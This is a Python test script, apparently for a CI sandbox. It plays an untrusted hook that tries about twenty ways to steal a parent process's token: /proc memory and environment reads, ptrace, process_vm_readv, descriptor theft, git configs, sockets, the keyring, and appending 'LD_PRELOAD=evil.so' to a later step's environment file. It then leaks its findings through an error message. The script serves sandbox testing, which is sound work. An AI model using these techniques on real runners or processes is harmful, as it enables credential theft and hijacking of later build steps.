"""A stranger's `python:` hook that tries to get at the token in every way that is known.

Run by itself (`python stranger.py`) it does the same without the sandbox: the control, which shows
that each way leads to the token where nothing stands in it. `targets.json` beside it says where the
process that holds the token is; a stranger would find out or guess.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import struct
from pathlib import Path

HERE = Path(__file__).resolve().parent
AT = json.loads((HERE / "targets.json").read_text())
LENGTH = AT["length"]
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def call(number: int, *arguments: object) -> int:
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = LIBC.syscall(ctypes.c_long(number), *words)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def own_environment() -> bytes:
    return repr(dict(os.environ)).encode() + Path("/proc/self/environ").read_bytes()


def environment_of_the_parent() -> bytes:
    return Path(f"/proc/{AT['pid']}/environ").read_bytes()


def memory_of_the_parent() -> bytes:
    with open(f"/proc/{AT['pid']}/mem", "rb", buffering=0) as file:  # noqa: PTH123
        file.seek(AT["address"])
        return file.read(LENGTH)


def process_vm_readv() -> bytes:
    class Part(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    buffer = ctypes.create_string_buffer(LENGTH)
    mine = Part(ctypes.addressof(buffer), LENGTH)
    theirs = Part(AT["address"], LENGTH)
    number = {"x86_64": 310, "aarch64": 270}[os.uname().machine]
    call(number, AT["pid"], ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    return buffer.raw


def ptrace() -> bytes:
    seize, detach, peek, interrupt = 0x4206, 17, 2, 0x4207
    LIBC.ptrace.restype = ctypes.c_long

    def trace(request: int, address: int = 0) -> int:
        ctypes.set_errno(0)
        result = LIBC.ptrace(
            ctypes.c_long(request),
            ctypes.c_int(AT["pid"]),
            ctypes.c_void_p(address),
            ctypes.c_void_p(0),
        )
        if ctypes.get_errno():
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return result

    trace(seize)
    trace(interrupt)
    os.waitpid(AT["pid"], 0x40000000)
    words = [trace(peek, AT["address"] + place) for place in range(0, LENGTH, 8)]
    trace(detach)
    return b"".join(struct.pack("=q", word) for word in words)


def inherited_descriptor() -> bytes:
    return os.pread(AT["descriptor"], 999, 0)


def descriptor_of_the_parent() -> bytes:
    return Path(f"/proc/{AT['pid']}/fd/{AT['descriptor']}").read_bytes()


def pidfd_getfd() -> bytes:
    descriptor = os.pidfd_open(AT["pid"])
    return os.pread(call(438, descriptor, AT["descriptor"], 0), 999, 0)


def file_of_the_runner() -> bytes:
    return Path(AT["file"]).read_bytes()


def link_to_a_file_of_the_runner() -> bytes:
    return (HERE / "link").read_bytes()


def git_config() -> bytes:
    return (HERE / ".git" / "config").read_bytes()


def git_config_of_a_checkout_beside() -> bytes:
    return (HERE / "src" / ".git" / "config").read_bytes()


def git_config_of_a_worktree() -> bytes:
    return (HERE / "deep" / "store" / "config").read_bytes()


def _ask(family: int, address: object) -> bytes:
    with socket.socket(family) as asked:
        asked.settimeout(5)
        asked.connect(address)
        return asked.recv(999)


def docker_socket() -> bytes:
    return _ask(socket.AF_UNIX, AT["socket"])


def abstract_socket() -> bytes:
    return _ask(socket.AF_UNIX, "\0" + AT["abstract"])


def network() -> bytes:
    return _ask(socket.AF_INET, ("127.0.0.1", AT["port"]))


def key_of_the_session() -> bytes:
    """A key that the parent put into its session's keyring, as some tools do with passwords."""
    number = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
    search, read, session = 10, 11, -3
    key = call(number, search, session, b"user", b"coral-test-token", 0)
    buffer = ctypes.create_string_buffer(LENGTH)
    call(number, read, key, buffer, LENGTH)
    return buffer.raw


def io_uring() -> bytes:
    """A ring opens files and sockets past filters of calls; having one is as good as the token."""
    call(425, 8, ctypes.create_string_buffer(120))
    return AT["ring"].encode()


def leave_a_file_for_later_steps() -> bytes:
    """GITHUB_ENV and GITHUB_PATH: what is written there runs with the next step's token."""
    with open(AT["commands"], "a") as file:  # noqa: PTH123
        file.write("LD_PRELOAD=evil.so\n")
    return AT["ring"].encode()


def kill_the_parent() -> bytes:
    """Without it, nobody reports; signal 0 only asks whether it could."""
    os.kill(AT["pid"], 0)
    return AT["ring"].encode()


WAYS = (
    own_environment,
    environment_of_the_parent,
    memory_of_the_parent,
    process_vm_readv,
    ptrace,
    inherited_descriptor,
    descriptor_of_the_parent,
    pidfd_getfd,
    file_of_the_runner,
    link_to_a_file_of_the_runner,
    git_config,
    git_config_of_a_checkout_beside,
    git_config_of_a_worktree,
    docker_socket,
    abstract_socket,
    network,
    key_of_the_session,
    io_uring,
    leave_a_file_for_later_steps,
    kill_the_parent,
)


def attempt() -> dict[str, str]:
    """What came of each way, in hexadecimal so that nothing is lost, or the error."""
    found = {}
    for way in WAYS:
        try:
            found[way.__name__] = "got " + way().hex()
        except Exception as error:
            found[way.__name__] = f"{type(error).__name__}: {error}"
    return found


def samples() -> list[dict[str, object]]:
    """The hook: what it found goes out as an error message, which is shown to everybody."""
    signal.alarm(60)
    raise RuntimeError(json.dumps(attempt()))


if __name__ == "__main__":
    print(json.dumps(attempt()))  # noqa: T201
